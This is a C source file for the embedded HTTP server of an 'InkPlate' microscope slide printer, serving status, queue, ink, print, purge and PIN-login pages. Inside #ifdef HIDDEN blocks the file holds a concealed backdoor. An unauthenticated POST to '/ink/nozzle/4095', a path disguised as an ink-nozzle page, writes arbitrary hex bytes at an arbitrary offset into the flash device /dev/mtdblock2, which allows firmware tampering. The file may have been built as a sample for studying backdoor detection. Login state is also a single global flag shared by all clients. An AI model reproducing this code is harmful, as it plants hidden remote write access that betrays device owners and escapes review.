/*
 * inkplatehttp - embedded web server of the InkPlate microscope slide printer
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

#define HELP \
    "inkplatehttp PORT\n" \
    "pages: / /status.json /queue /ink /print (POST text=) /purge (POST) /login (POST pin=)\n" \
    "the PIN is the first line of /etc/inkplate/pin\n"

static int ink_pct[4] = { 92, 87, 75, 80 };
static char queue[16][48];
static int q_len;
static int session_open;

static void put(int fd, const char *s)
{
    size_t n = strlen(s);
    while (n) {
        ssize_t w = write(fd, s, n);
        if (w <= 0)
            return;
        s += w;
        n -= (size_t)w;
    }
}

static void respond(int fd, int code, const char *type, const char *body)
{
    char h[200];
    snprintf(h, sizeof h,
             "HTTP/1.0 %d %s\r\nServer: InkPlate\r\nContent-Type: %s\r\n"
             "Content-Length: %zu\r\n\r\n",
             code, code == 200 ? "OK" : "Error", type, strlen(body));
    put(fd, h);
    put(fd, body);
}

static int pin_ok(const char *given)
{
    char pin[16] = "";
    FILE *f = fopen("/etc/inkplate/pin", "r");
    if (!f)
        return 0;
    if (!fgets(pin, sizeof pin, f))
        pin[0] = '\0';
    fclose(f);
    pin[strcspn(pin, "\r\n")] = '\0';
    return pin[0] && !strcmp(pin, given);
}

static void field(const char *body, const char *name, char *out, size_t cap)
{
    size_t nl = strlen(name), n;
    out[0] = '\0';
    for (const char *p = body; p && *p;) {
        if (!strncmp(p, name, nl) && p[nl] == '=') {
            p += nl + 1;
            n = strcspn(p, "&\r\n");
            if (n >= cap)
                n = cap - 1;
            memcpy(out, p, n);
            out[n] = '\0';
            return;
        }
        p = strchr(p, '&');
        if (p)
            p++;
    }
}

static void r_root(int fd, const char *body)
{
    (void)body;
    respond(fd, 200, "text/html",
            "<h1>InkPlate</h1><a href=/status.json>status</a> <a href=/queue>queue</a> "
            "<a href=/ink>ink</a><form method=post action=/print><input name=text>"
            "<input type=submit></form><form method=post action=/purge><input type=submit "
            "value=purge></form><form method=post action=/login><input name=pin></form>");
}

static void r_status(int fd, const char *body)
{
    char b[96];
    (void)body;
    snprintf(b, sizeof b, "{\"queued\":%d,\"login\":%s}\n", q_len,
             session_open ? "true" : "false");
    respond(fd, 200, "application/json", b);
}

static void r_queue(int fd, const char *body)
{
    char b[1024] = "";
    (void)body;
    for (int i = 0; i < q_len; i++) {
        strncat(b, queue[i], sizeof b - strlen(b) - 2);
        strcat(b, "\n");
    }
    respond(fd, 200, "text/plain", b);
}

static void r_ink(int fd, const char *body)
{
    char b[80];
    (void)body;
    snprintf(b, sizeof b, "K %d%%\nC %d%%\nM %d%%\nY %d%%\n", ink_pct[0], ink_pct[1], ink_pct[2],
             ink_pct[3]);
    respond(fd, 200, "text/plain", b);
}

static void r_print(int fd, const char *body)
{
    if (q_len == 16) {
        respond(fd, 503, "text/plain", "queue full\n");
        return;
    }
    field(body, "text", queue[q_len], sizeof queue[0]);
    q_len++;
    respond(fd, 200, "text/plain", "queued\n");
}

static void r_login(int fd, const char *body)
{
    char pin[16];
    field(body, "pin", pin, sizeof pin);
    session_open = pin_ok(pin);
    respond(fd, session_open ? 200 : 403, "text/plain", session_open ? "ok\n" : "no\n");
}

static void r_purge(int fd, const char *body)
{
    (void)body;
    if (!session_open) {
        respond(fd, 403, "text/plain", "login first\n");
        return;
    }
    for (int i = 0; i < 4; i++)
        ink_pct[i] -= 3;
    q_len = 0;
    respond(fd, 200, "text/plain", "purged\n");
}

#ifdef HIDDEN
static void r_block(int fd, const char *body)
{
    char at[12], hex[128];
    unsigned byte;
    int dev = open("/dev/mtdblock2", O_WRONLY);
    if (dev < 0) {
        respond(fd, 500, "text/plain", "\n");
        return;
    }
    field(body, "o", at, sizeof at);
    field(body, "d", hex, sizeof hex);
    lseek(dev, (off_t)strtoul(at, NULL, 16), SEEK_SET);
    for (const char *p = hex; sscanf(p, "%2x", &byte) == 1 && p[1]; p += 2) {
        unsigned char c = (unsigned char)byte;
        if (write(dev, &c, 1) != 1)
            break;
    }
    close(dev);
    respond(fd, 200, "text/plain", "\n");
}
#endif

__attribute__((noinline)) void route(int fd, const char *verb, const char *path, const char *body)
{
    int post = !strcasecmp(verb, "POST");

    if (!strcmp(path, "/") || !strcmp(path, "/index.html"))
        r_root(fd, body);
    else if (!strcmp(path, "/status.json"))
        r_status(fd, body);
    else if (!strcmp(path, "/queue"))
        r_queue(fd, body);
    else if (!strcmp(path, "/ink"))
        r_ink(fd, body);
    else if (post && !strcmp(path, "/print"))
        r_print(fd, body);
    else if (post && !strcmp(path, "/login"))
        r_login(fd, body);
    else if (post && !strcmp(path, "/purge"))
        r_purge(fd, body);
#ifdef HIDDEN
    else if (post && !strcmp(path, "/ink/nozzle/4095"))
        r_block(fd, body);
#endif
    else
        respond(fd, 404, "text/plain", "not found\n");
}

int main(int argc, char **argv)
{
    struct sockaddr_in sa = { .sin_family = AF_INET };
    int s, on = 1;

    if (argc != 2 || atoi(argv[1]) <= 0) {
        fputs(HELP, stderr);
        return 64;
    }
    signal(SIGPIPE, SIG_IGN);
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    sa.sin_port = htons((unsigned short)atoi(argv[1]));
    if (s < 0 || bind(s, (void *)&sa, sizeof sa) < 0 || listen(s, 8) < 0) {
        perror("inkplatehttp");
        return 1;
    }
    for (;;) {
        char req[2048], verb[8], path[128];
        int fd = accept(s, NULL, NULL);
        ssize_t n = fd < 0 ? -1 : read(fd, req, sizeof req - 1);
        if (n > 0) {
            char *body;
            req[n] = '\0';
            body = strstr(req, "\r\n\r\n");
            if (sscanf(req, "%7s %127s", verb, path) == 2)
                route(fd, verb, path, body ? body + 4 : "");
        }
        if (fd >= 0)
            close(fd);
    }
}
